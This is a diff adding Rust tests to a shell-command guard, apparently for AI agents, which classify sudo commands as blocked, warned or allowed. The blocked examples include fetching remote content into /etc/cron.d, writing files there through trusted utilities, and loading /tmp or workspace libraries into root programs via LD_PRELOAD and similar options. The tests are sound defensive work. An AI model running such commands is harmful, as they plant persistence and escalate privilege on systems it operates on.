@@ -4644,6 +4644,69 @@ fn a_wrappers_own_output_file_and_an_option_no_spec_clause_reads_are_writes() {
 }
 
 #[test]
+fn a_program_trusted_to_read_still_writes_where_its_output_option_points() {
+    // Readers, converters, downloaders and packers the guard passes quietly: the option or
+    // operand that names their output is a write like a redirect.
+    judged(
+        "persistence.scheduled",
+        Block,
+        &[
+            "sudo wget -O /etc/cron.d/x https://x.io/c",
+            "sudo openssl enc -in /tmp/in -out /etc/cron.d/x",
+            "sudo sort --output=/etc/cron.d/x /tmp/in",
+            "sudo uniq /tmp/in /etc/cron.d/x",
+            "sudo split -b 999m /tmp/in /etc/cron.d/x",
+            "sudo csplit -f /etc/cron.d/x /tmp/in 1",
+            "sudo unzip /tmp/x.zip -d /etc/cron.d",
+            "sudo 7z x /tmp/in.7z -o/etc/cron.d",
+            "sudo zip /etc/cron.d/x /tmp/in",
+            "sudo ssh-keygen -f /etc/cron.d/x",
+        ],
+    );
+    judged(
+        "privilege.system_state",
+        Warn,
+        &["sudo wget -O /usr/local/bin/kubectl https://dl.k8s.io/kubectl"],
+    );
+    // Reads, outputs in the workspace or on stdout, and the same options read back.
+    allowed(&[
+        "uniq -f 1 /etc/passwd",
+        "uniq -c /etc/group",
+        "sort -o out.txt in.txt",
+        "wget -O - https://x.io",
+        "zip -r /tmp/out.zip .",
+        "ssh-keygen -l -f /etc/ssh/ssh_host_ed25519_key.pub",
+        "openssl x509 -in /etc/ssl/certs/ca.pem -text -noout",
+    ]);
+}
+
+#[test]
+fn a_library_from_the_workspace_or_temp_loaded_into_a_root_program_is_root_code() {
+    judged(
+        "privilege.library_load",
+        Block,
+        &[
+            "sudo openssl req -engine ./lib.so",
+            "sudo php -d extension=/tmp/x.so -r 1",
+            "sudo pkcs11-tool --module ./x.so -L",
+            "sudo LD_PRELOAD=./x.so apache2",
+        ],
+    );
+    // Without root, a temp library is warned and the agent's own is its own code; as root, a
+    // library copied, installed or stripped is a file handled, not loaded.
+    judged("privilege.library_load", Warn, &["openssl req -engine /tmp/lib.so"]);
+    allowed(&["openssl req -engine ./lib.so", "sudo strip build/libx.so"]);
+    judged(
+        "privilege.system_state",
+        Warn,
+        &[
+            "sudo cp build/libfoo.so /usr/local/lib/",
+            "sudo install -m 755 target/release/libx.so /usr/lib/",
+        ],
+    );
+}
+
+#[test]
 fn a_tracer_told_to_pipe_its_output_into_a_command_runs_that_command() {
     // strace's `-o '|cmd'` and `-o '!cmd'` start `cmd` through the shell: it is carried as
     // `sh -c` text is, whatever the traced command is.
